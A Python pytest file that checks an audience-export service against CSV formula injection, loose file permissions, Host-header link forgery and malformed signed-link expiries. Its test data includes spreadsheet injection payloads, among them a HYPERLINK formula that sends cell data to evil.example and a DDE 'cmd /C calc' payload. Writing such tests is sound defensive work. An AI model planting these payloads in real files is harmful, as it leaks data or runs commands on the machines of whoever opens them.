"""Exports are safe to open and to hold: formula-safe CSV, owner-only files, links from the
operator's public URL, and no 500 for any link a client sends (issue 17, findings 4 and 12)."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from audience_sync.config import Settings, secret_keys
from audience_sync.export.cells import TRIGGERS, unescape, unescape_list
from audience_sync.export.links import PURPOSE
from audience_sync.store import db
from audience_sync.store.db import transaction
from audience_sync.store.tables import Export

from .conftest import Api, Tenant

# What an attacker puts in a profile to run in the spreadsheet of whoever opens the export.
FORMULAS = {
    "F1": '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "F2": "+FORM2",
    "F3": "-1+2",
    "F4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "F5": "\t=1+1",
    "F6": "'=already quoted",
}
# Profile ids are trimmed on import (the tab case stays in the `nickname` trait, a JSON cell).
IDS = {*FORMULAS, *(value.strip() for value in FORMULAS.values()), "PHONE"}


@pytest.fixture
def umask_022() -> Iterator[None]:
    """The usual umask, under which a plain `open` makes 0644 files: modes must not depend on it."""
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


async def formula_segment(api: Api) -> str:
    made = await api.call("POST", "/api/v1/segments", json={"name": "Formulas"})
    segment_id: str = made.json()["id"]
    rows = [
        {"profile_id": key, "email": f"{key.lower()}@example.com", "nickname": value}
        for key, value in FORMULAS.items()
    ]
    rows += [{"profile_id": value, "email": "=cmd@example.com"} for value in FORMULAS.values()]
    rows.append({"profile_id": "PHONE", "phone": ["+16505550100", "+14155550101"]})
    loaded = await api.call(
        "POST", "/api/v1/profiles:batch", json={"profiles": rows, "segment_id": segment_id}
    )
    assert loaded.status_code == 200, loaded.text
    assert loaded.json()["created"] == len(rows), loaded.text
    return segment_id


async def exported(api: Api, segment_id: str, **options: object) -> httpx.Response:
    made = await api.call("POST", f"/api/v1/segments/{segment_id}/export", json=options)
    assert made.status_code == 200, made.text
    got = await api.client.get(made.json()["download_url"])
    assert got.status_code == 200
    return got


def assert_no_formula(text: str) -> list[list[str]]:
    """Every field quoted, and no cell (nor `;`-joined element) a spreadsheet would evaluate."""
    for line in text.splitlines():
        assert line.startswith('"'), line
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS[:-1]), cell
            for element in cell.split(";"):
                assert not element.startswith(TRIGGERS[:-1]), cell
    return rows


@pytest.mark.parametrize("hashed", [False, True])
async def test_csv_cells_that_could_run_as_formulas_are_neutralised(
    client: httpx.AsyncClient, alice: Tenant, hashed: bool
) -> None:
    api = Api(client, alice)
    segment_id = await formula_segment(api)
    got = await exported(api, segment_id, hash_identifiers=hashed)
    rows = assert_no_formula(got.text)
    header, body = rows[0], rows[1:]
    assert header == ["profile_id", "email", "phone", "traits"]
    # The quote is reversible: read back, every profile id is the one imported.
    ids = {unescape(row[0]) for row in body}
    assert ids == IDS
    if not hashed:
        by_id = {unescape(row[0]): row for row in body}
        # E.164 phones start with `+`: neutralised too, and read back with unescape_list.
        assert by_id["PHONE"][2] == "'+16505550100;'+14155550101"
        assert unescape_list(by_id["PHONE"][2]) == ["+16505550100", "+14155550101"]
        assert unescape(by_id[FORMULAS["F1"]][1]) == "=cmd@example.com"


async def test_json_exports_are_unchanged_by_the_csv_rule(
    client: httpx.AsyncClient, alice: Tenant
) -> None:
    api = Api(client, alice)
    segment_id = await formula_segment(api)
    got = await exported(api, segment_id, format="json", hash_identifiers=False)
    ids = {row["profile_id"] for row in got.json()}
    assert ids == IDS


async def test_export_files_and_folders_are_the_owners_alone(
    client: httpx.AsyncClient,
    alice: Tenant,
    factory: sessionmaker[Session],
    settings: Settings,
    umask_022: None,
) -> None:
    api = Api(client, alice)
    segment_id = await api.segment(profiles=3)
    await exported(api, segment_id, hash_identifiers=False)
    with transaction(factory) as session:
        path = Path(str(session.scalars(select(Export.file_path)).one()))
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE((settings.var_dir / "exports").stat().st_mode) == 0o700


def test_the_sqlite_file_and_its_wal_are_the_owners_alone(tmp_path: Path, umask_022: None) -> None:
    path = tmp_path / "var" / "audience_sync.db"
    engine = db.make_engine(f"sqlite:///{path}")
    try:
        db.upgrade(engine)
        with engine.connect() as connection:  # WAL: the -wal and -shm files exist while open
            for name in (path, Path(f"{path}-wal"), Path(f"{path}-shm")):
                assert stat.S_IMODE(name.stat().st_mode) == 0o600, name
            connection.rollback()
    finally:
        engine.dispose()
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700


def test_an_existing_world_readable_sqlite_file_is_tightened(tmp_path: Path) -> None:
    path = tmp_path / "old.db"
    path.touch()
    path.chmod(0o644)
    db.make_engine(f"sqlite:///{path}").dispose()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


async def test_links_come_from_the_public_url_not_the_host_header(
    client: httpx.AsyncClient, alice: Tenant, settings: Settings
) -> None:
    api = Api(client, alice)
    segment_id = await api.segment(profiles=1)
    forged = {**alice.headers, "Host": "evil.example", "X-Forwarded-Host": "evil.example"}
    url = f"/api/v1/segments/{segment_id}/export"
    default = await client.post(url, json={}, headers=forged)
    assert default.json()["download_url"].startswith("http://127.0.0.1:8000/exports/")
    settings.public_url = "https://audiences.example.org/sync/"
    made = await client.post(url, json={}, headers=forged)
    link = made.json()["download_url"]
    assert link.startswith("https://audiences.example.org/sync/exports/"), link
    assert "evil" not in link
    # The path and signature work on this app (the prefix is the proxy's).
    parts = urlsplit(link)
    got = await client.get(parts.path.removeprefix("/sync") + "?" + parts.query)
    assert got.status_code == 200


def signed(settings: Settings, export_id: str, expires: int) -> str:
    """What a holder of the key would sign (links.sign cannot even build such an expiry)."""
    key = secret_keys(settings)[0]
    derived = hmac.new(key, PURPOSE, hashlib.sha256).digest()
    return hmac.new(derived, f"{export_id}:{expires}".encode(), hashlib.sha256).hexdigest()


@pytest.mark.parametrize("expires", [10**13, 10**30, -(10**13), 2**63])
async def test_an_absurd_expiry_is_refused_never_a_500(
    client: httpx.AsyncClient, alice: Tenant, settings: Settings, expires: int
) -> None:
    api = Api(client, alice)
    segment_id = await api.segment(profiles=1)
    made = await api.call("POST", f"/api/v1/segments/{segment_id}/export", json={})
    link = urlsplit(made.json()["download_url"])
    export_id = link.path.rsplit("/", 1)[-1]
    query = {k: v[0] for k, v in parse_qs(link.query).items()}
    # Unsigned: refused as altered.
    altered = await client.get(link.path, params={**query, "expires": expires})
    assert altered.status_code == 403
    # Signed with the real key for an expiry no link is ever issued with: refused, not served.
    forged = await client.get(
        link.path, params={"expires": expires, "signature": signed(settings, export_id, expires)}
    )
    assert forged.status_code in (403, 410), forged.text
    assert forged.json()["error"]["code"] in ("link_invalid", "link_expired")


async def test_cells_already_quoted_stay_distinct_from_neutralised_ones(
    client: httpx.AsyncClient, alice: Tenant
) -> None:
    api = Api(client, alice)
    segment_id = await formula_segment(api)
    rows = list(csv.reader(io.StringIO((await exported(api, segment_id)).text)))
    cells = {row[0] for row in rows[1:]}
    # "'=already quoted" and "=already quoted" would both read back the same without the
    # extra quote on a value that starts with one.
    assert "''=already quoted" in cells
    assert unescape("''=already quoted") == "'=already quoted"
